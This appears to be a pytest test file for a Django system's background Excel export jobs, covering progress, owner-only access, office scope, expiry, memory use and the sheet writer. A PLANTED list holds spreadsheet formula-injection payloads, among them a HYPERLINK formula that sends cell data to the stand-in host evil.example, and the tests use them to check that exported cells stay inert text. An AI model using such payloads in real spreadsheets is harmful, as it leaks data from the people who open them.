"""导出Excel at national scale: a result larger than one page is an export job (conac/exports.py).

The job is written by a Celery task (run in-process here, as in ``make run``), shows its
progress to its owner only, is downloadable by its owner only, and is removed with its
file once it expires. Memory stays flat whatever the number of rows.
"""

import datetime
import io
import tracemalloc
import urllib.parse
import uuid
import zlib

import openpyxl
import pytest
from django.core.files.storage import storages
from django.utils import timezone

from conac import exports
from conac.audit import history_of
from conac.models import ExportJob, ExportStatus
from conac.spreadsheets import SheetWriter
from registry.domains import queries as domain_queries
from registry.models import Domain, DomainStatus, Office, Unit
from tests import factories

EXPORT = "/domains/search/export/"
PLANTED = ['=HYPERLINK("http://evil.example/?"&A2,"点击核对")', "+1+1", "-2+3", "@SUM(1)", "\t制表符", "\r回车"]


@pytest.fixture(autouse=True)
def _export_files_on_disk(settings, tmp_path):
    """Export files go to a folder of the test's own, as in production (a FileSystemStorage)."""
    settings.STORAGES = {
        **settings.STORAGES,
        "documents": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "documents")},
        },
    }
    return tmp_path / "documents"


def bulk_domains(unit, count, *, prefix="批量", status=DomainStatus.ACTIVE):
    """``count`` domains of ``unit`` in a few statements (names are ASCII-safe Chinese labels)."""
    now = timezone.now()
    today = timezone.localdate()
    Domain.objects.bulk_create(
        [
            Domain(
                unit=unit,
                office_id=unit.office_id,
                label=f"{prefix}{i}",
                alabel=f"bulk{zlib.crc32(prefix.encode())}-{i}",
                suffix=".政务",
                years=1 + i % 5,
                status=status,
                registered_on=today,
                expires_on=today + datetime.timedelta(days=365 + i % 700),
                submitted_at=now,
            )
            for i in range(count)
        ],
        batch_size=5000,
    )


def cells(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [[(cell.value, cell.data_type) for cell in row] for row in workbook.active.iter_rows()]


def values(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return [list(row) for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True)]


def download(client, job):
    response = client.get(f"/exports/{job.public_id}/download/")
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def queue_export(client, params=None):
    """Ask for an export larger than one page without running its task: the job stays 排队中."""
    response = client.get(EXPORT, params or {})
    assert response.status_code == 302 and response.url.startswith("/exports/")
    return ExportJob.objects.get(public_id=response.url.split("/")[2])


# --- The lifecycle -----------------------------------------------------------------------------


def test_a_large_export_runs_as_a_job_and_the_page_shows_the_download_when_done(
    client_for, office_user, unit, django_capture_on_commit_callbacks
):
    bulk_domains(unit, 45)
    client = client_for(office_user)
    with django_capture_on_commit_callbacks(execute=True):  # the task runs in-process, as in make run
        response = client.get(EXPORT)
    job = ExportJob.objects.get()
    assert response.url == f"/exports/{job.public_id}/"
    assert (job.status, job.rows_done, job.rows_total, job.title) == (ExportStatus.DONE, 45, 45, "域名查询")
    assert job.expires_at - job.created_at == datetime.timedelta(hours=24)

    page = client.get(response.url).content.decode()
    assert "已完成" in page and "100%" in page
    assert f'href="/exports/{job.public_id}/download/"' in page
    assert "hx-trigger" not in page  # finished: no more polling
    rows = values(download(client, job))
    assert rows[0][:3] == ["域名", "英文编码", "单位名称"] and len(rows) == 46
    disposition = client.get(f"/exports/{job.public_id}/download/")["Content-Disposition"]
    assert job.download_name.startswith("域名查询-") and urllib.parse.quote(job.download_name) in disposition

    assert [e.action for e in history_of(job)] == ["导出完成", "导出Excel"]
    listed = client.get("/exports/").content.decode()
    assert f"/exports/{job.public_id}/" in listed and "域名查询" in listed


def test_while_the_job_waits_the_page_polls_and_shows_no_download(client_for, office_user, unit):
    bulk_domains(unit, 30)
    client = client_for(office_user)
    job = queue_export(client)  # the commit callback (queueing the task) is not run here
    assert job.status == ExportStatus.QUEUED and job.rows_total == 30

    page = client.get(f"/exports/{job.public_id}/").content.decode()
    assert "<html" in page and "排队中" in page
    assert f'hx-get="/exports/{job.public_id}/"' in page and 'hx-trigger="every 1s"' in page
    assert "/download/" not in page
    assert client.get(f"/exports/{job.public_id}/download/").status_code == 404

    # htmx asks for the status block alone, which replaces itself.
    partial = client.get(f"/exports/{job.public_id}/", HTTP_HX_REQUEST="true").content.decode()
    assert "<html" not in partial and 'id="export-job"' in partial and "0 / 30" in partial

    exports.run(job.pk)
    partial = client.get(f"/exports/{job.public_id}/", HTTP_HX_REQUEST="true").content.decode()
    assert "已完成" in partial and "hx-trigger" not in partial and "/download/" in partial


def test_progress_is_saved_every_n_rows_while_the_file_is_written(settings, client_for, office_user, unit):
    settings.EXPORT_PROGRESS_EVERY = 10
    bulk_domains(unit, 35)
    job = queue_export(client_for(office_user))
    seen = []
    real_table = domain_queries.export_table

    def watched(queryset):
        table = real_table(queryset)
        original = table.rows

        def rows():
            for row in original:
                seen.append(ExportJob.objects.values_list("status", "rows_done", "rows_total").get(pk=job.pk))
                yield row

        table.rows = rows()
        return table

    domain_queries.export_table, saved = watched, domain_queries.export_table
    try:
        exports.run(job.pk)
    finally:
        domain_queries.export_table = saved
    assert {status for status, _, _ in seen} == {ExportStatus.RUNNING}
    assert sorted({done for _, done, _ in seen}) == [0, 10, 20, 30]
    assert {total for _, _, total in seen} == {35}
    job.refresh_from_db()
    assert (job.status, job.rows_done, job.percent) == (ExportStatus.DONE, 35, 100)


def test_running_a_finished_job_again_changes_nothing(client_for, office_user, unit, _export_files_on_disk):
    bulk_domains(unit, 25)
    job = queue_export(client_for(office_user))
    exports.run(job.pk)
    job.refresh_from_db()
    first = (job.file_name, job.finished_at)
    exports.run(job.pk)
    job.refresh_from_db()
    assert (job.file_name, job.finished_at) == first
    assert len(list((_export_files_on_disk / "exports").iterdir())) == 1


def test_a_job_being_written_is_left_alone_and_a_lost_one_is_taken_up_again(client_for, office_user, unit):
    bulk_domains(unit, 25)
    job = queue_export(client_for(office_user))
    now = timezone.now()
    ExportJob.objects.filter(pk=job.pk).update(status=ExportStatus.RUNNING, heartbeat_at=now, rows_done=7)
    exports.run(job.pk, now=now + datetime.timedelta(minutes=1))  # its worker is alive
    job.refresh_from_db()
    assert (job.status, job.rows_done) == (ExportStatus.RUNNING, 7)
    exports.run(job.pk, now=now + datetime.timedelta(minutes=30))  # its worker was lost
    job.refresh_from_db()
    assert (job.status, job.rows_done) == (ExportStatus.DONE, 25)


def test_a_failing_export_says_so_on_its_page(client_for, office_user, unit, monkeypatch):
    bulk_domains(unit, 25)
    client = client_for(office_user)
    job = queue_export(client)

    def broken(queryset):
        raise RuntimeError("database went away")

    monkeypatch.setattr(domain_queries, "export_table", broken)
    exports.run(job.pk)
    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED and not job.file_name
    page = client.get(f"/exports/{job.public_id}/").content.decode()
    assert "失败" in page and "请稍后重新导出" in page and "database went away" not in page
    assert client.get(f"/exports/{job.public_id}/download/").status_code == 404
    assert history_of(job).first().action == "导出失败"


def test_a_query_that_no_longer_validates_fails_with_the_reason(client_for, office_user, unit):
    bulk_domains(unit, 25)
    job = queue_export(client_for(office_user))
    ExportJob.objects.filter(pk=job.pk).update(parameters={"query": "expires_from=abc"})
    exports.run(job.pk)
    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED and job.error == "查询条件有误，请修改后重新导出。"


# --- Only for the user who asked ----------------------------------------------------------------


@pytest.mark.parametrize("persona", ["other_office_user", "conac_user", "unit_user", "colleague"])
def test_nobody_but_the_owner_sees_or_downloads_the_job(
    request, client_for, office_user, unit, persona, django_capture_on_commit_callbacks
):
    bulk_domains(unit, 25)
    with django_capture_on_commit_callbacks(execute=True):
        job = queue_export(client_for(office_user))
    job.refresh_from_db()
    assert job.status == ExportStatus.DONE
    # A colleague of the same office sees the same domains, but not this user's file.
    other = (
        factories.make_staff("hd_colleague", "110108") if persona == "colleague" else request.getfixturevalue(persona)
    )
    client = client_for(other)
    assert client.get(f"/exports/{job.public_id}/").status_code == 404
    assert client.get(f"/exports/{job.public_id}/", HTTP_HX_REQUEST="true").status_code == 404
    assert client.get(f"/exports/{job.public_id}/download/").status_code == 404
    assert str(job.public_id) not in client.get("/exports/").content.decode()


def test_anonymous_visitors_are_sent_to_the_login_page(client, client_for, office_user, unit):
    bulk_domains(unit, 25)
    job = queue_export(client_for(office_user))
    exports.run(job.pk)
    for url in (f"/exports/{job.public_id}/", f"/exports/{job.public_id}/download/", "/exports/"):
        response = client.get(url)
        assert response.status_code == 302 and response.url.startswith("/login/")


def test_an_unknown_job_is_404(client_for, office_user):
    client = client_for(office_user)
    assert client.get(f"/exports/{uuid.uuid4()}/").status_code == 404
    assert client.get(f"/exports/{uuid.uuid4()}/download/").status_code == 404


# --- Scope: exactly the synchronous export's --------------------------------------------------------


def test_the_job_keeps_the_office_scope_and_the_filter(
    client_for, office_user, province_office_user, unit, shanghai_unit, django_capture_on_commit_callbacks
):
    bulk_domains(unit, 25, prefix="批量海淀")
    bulk_domains(shanghai_unit, 25, prefix="批量上海")
    for user, expected in ((office_user, 25), (province_office_user, 25)):
        client = client_for(user)
        with django_capture_on_commit_callbacks(execute=True):
            job = queue_export(client, {"domain": "批量"})  # both units' names match the term
        rows = values(download(client, ExportJob.objects.get(pk=job.pk)))[1:]
        assert len(rows) == expected
        assert {row[0][:4] for row in rows} == {"批量海淀"}
    # Another office's export of the same term holds only its own units' domains.
    client = client_for(factories.make_staff("sh_exporter", "310000"))
    with django_capture_on_commit_callbacks(execute=True):
        job = queue_export(client, {"domain": "批量"})
    assert {row[0][:4] for row in values(download(client, ExportJob.objects.get(pk=job.pk)))[1:]} == {"批量上海"}


def test_the_scope_is_applied_again_when_the_job_runs(client_for, office_user, unit):
    """The task re-reads the owner's scope: a unit moved to another office meanwhile is not exported."""
    bulk_domains(unit, 25)
    job = queue_export(client_for(office_user))
    shanghai = Office.objects.get(code="310000")
    Domain.objects.filter(unit=unit).update(office=shanghai)
    Unit.objects.filter(pk=unit.pk).update(office=shanghai)
    exports.run(job.pk)
    job.refresh_from_db()
    assert (job.status, job.rows_total, job.rows_done) == (ExportStatus.DONE, 0, 0)


# --- Formula safety still holds -----------------------------------------------------------------------


def test_a_job_writes_planted_user_text_as_inert_text(client_for, office_user, django_capture_on_commit_callbacks):
    for index, text in enumerate(PLANTED * 4):
        unit = factories.make_unit(name=f"{text}{index}", region_code="110108")
        factories.make_domain(unit, f"注入批量{index}", status="active")
    Office.objects.filter(pk=office_user.office_id).update(name=PLANTED[0])
    client = client_for(office_user)
    with django_capture_on_commit_callbacks(execute=True):
        job = queue_export(client, {"domain": "注入批量"})
    rows = cells(download(client, ExportJob.objects.get(pk=job.pk)))[1:]
    assert len(rows) == len(PLANTED) * 4
    for row in rows:
        assert all(kind != "f" for _, kind in row)
        unit_name, unit_kind = row[2]
        assert unit_kind == "s" and unit_name.startswith("'")
        assert row[3] == ("'" + PLANTED[0], "s")


def test_the_national_reconciliation_is_a_job_with_inert_office_names(
    client_for, conac_user, django_capture_on_commit_callbacks
):
    from billing import services as billing

    offices = list(Office.objects.exclude(code="000000").order_by("code")[:51])  # one line more than a page
    staff = factories.make_staff("bench_remitter", offices[0].code)
    for office in offices:
        staff.office = office
        billing.register_remittance(
            office, amount="10.00", remitted_on=datetime.date(2026, 1, 5), voucher_no=f"R{office.code}", actor=staff
        )
    Office.objects.filter(pk=offices[0].pk).update(name=PLANTED[3])
    client = client_for(conac_user)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get("/billing/reconciliation/export/")
    job = ExportJob.objects.get()
    assert response.url == f"/exports/{job.public_id}/" and job.title == "对账报表"
    assert (job.status, job.rows_done) == (ExportStatus.DONE, 52)
    rows = cells(download(client, job))
    assert ("'" + PLANTED[3], "s") in [row[1] for row in rows[1:]]
    assert rows[-1][1] == ("合计", "s")
    assert all(kind != "f" for row in rows for _, kind in row)


# --- Expiry --------------------------------------------------------------------------------------------


def test_an_expired_job_is_gone_for_its_owner_and_removed_with_its_file_by_the_beat_job(
    settings, client_for, office_user, unit, _export_files_on_disk, django_capture_on_commit_callbacks
):
    from conac.tasks import remove_expired_exports

    assert settings.CELERY_BEAT_SCHEDULE["remove-expired-exports"]["task"] == "conac.tasks.remove_expired_exports"
    bulk_domains(unit, 25)
    client = client_for(office_user)
    with django_capture_on_commit_callbacks(execute=True):
        job = queue_export(client)
    job.refresh_from_db()
    stored = _export_files_on_disk / job.file_name
    assert stored.exists() and job.file_size == stored.stat().st_size > 0

    assert exports.remove_expired(now=job.created_at + datetime.timedelta(hours=23)) == 0
    assert client.get(f"/exports/{job.public_id}/download/").status_code == 200

    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - datetime.timedelta(seconds=1))
    assert client.get(f"/exports/{job.public_id}/").status_code == 404  # past its time, before the sweep
    assert client.get(f"/exports/{job.public_id}/download/").status_code == 404
    assert remove_expired_exports.delay().get() == 1
    assert not ExportJob.objects.exists() and not stored.exists()
    assert remove_expired_exports.delay().get() == 0


def test_a_file_whose_job_was_removed_while_it_was_written_is_deleted(
    client_for, office_user, unit, _export_files_on_disk, monkeypatch
):
    bulk_domains(unit, 25)
    job = queue_export(client_for(office_user))
    real_save = storages["documents"].save

    def save_then_sweep(name, content, **kwargs):
        saved = real_save(name, content, **kwargs)
        ExportJob.objects.filter(pk=job.pk).delete()
        return saved

    monkeypatch.setattr(storages["documents"], "save", save_then_sweep)
    exports.run(job.pk)
    assert not list((_export_files_on_disk / "exports").iterdir())


# --- Memory: flat whatever the number of rows ------------------------------------------------------------


def test_the_rows_are_read_in_chunks(client_for, office_user, unit, monkeypatch):
    from django.db.models.query import QuerySet

    bulk_domains(unit, 25)
    job = queue_export(client_for(office_user))
    chunk_sizes = []
    real_iterator = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunk_sizes.append(chunk_size)
        return real_iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    exports.run(job.pk)
    assert domain_queries.EXPORT_CHUNK_ROWS in chunk_sizes


def _peak_bytes_of_a_run(job_pk):
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        exports.run(job_pk)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_big_export_does_not_hold_its_rows_in_memory(client_for, office_user, unit):
    """8× the rows, the same peak: the rows stream through (20,000 rows here)."""
    bulk_domains(unit, 2_500, prefix="小批")
    bulk_domains(unit, 20_000, prefix="大批")
    client = client_for(office_user)
    small = queue_export(client, {"domain": "小批"})
    big = queue_export(client, {"domain": "大批"})
    exports.run(small.pk)  # warm up: imports, template and query caches
    ExportJob.objects.filter(pk=small.pk).update(status=ExportStatus.QUEUED)
    small_peak = _peak_bytes_of_a_run(small.pk)
    big_peak = _peak_bytes_of_a_run(big.pk)
    big.refresh_from_db()
    assert big.rows_done == 20_000
    # Holding 20,000 rows (tuples of ten values, strings and dates) would take well over 10 MB.
    assert big_peak < small_peak + 2_000_000, (small_peak, big_peak)
    assert big_peak < 8_000_000, big_peak


# --- The writer ------------------------------------------------------------------------------------------


def test_rows_beyond_excels_sheet_limit_go_on_to_the_next_sheet(monkeypatch):
    monkeypatch.setattr(SheetWriter, "max_rows_per_sheet", 5)  # header + 4 rows per sheet
    with SheetWriter("域名查询", ["序号", "名称"]) as sheet:
        for i in range(10):
            sheet.append([i, f"=名称{i}"])
    workbook = openpyxl.load_workbook(sheet.file, read_only=True)
    assert workbook.sheetnames == ["域名查询", "域名查询（2）", "域名查询（3）"]
    sheets = [[list(row) for row in ws.iter_rows(values_only=True)] for ws in workbook.worksheets]
    assert [rows[0] for rows in sheets] == [["序号", "名称"]] * 3
    assert [row for rows in sheets for row in rows[1:]] == [[i, f"'=名称{i}"] for i in range(10)]
    assert sheet.rows == 10


def test_the_writer_escapes_xml_and_keeps_odd_text_as_typed():
    odd = ["<b>&amp;</b>", "  前后空格  ", "_x0041_", "控制\x01字符", "多行\n文本", "x" * 40_000]
    with SheetWriter("测试", ["文本"]) as sheet:
        for text in odd:
            sheet.append([text])
    rows = [row[0] for row in values(sheet.file.read())[1:]]
    assert rows[:2] == ["<b>&amp;</b>", "  前后空格  "]
    # A literal _xHHHH_ has its underscore escaped (_x005F_), which Excel reads back as typed;
    # openpyxl leaves the escape as it is.
    assert rows[2] in ("_x0041_", "_x005F_x0041_")
    assert rows[3] in ("控制\x01字符", "控制_x0001_字符")
    assert rows[4] == "多行\n文本"
    assert len(rows[5]) == 32_767  # Excel's limit for one cell
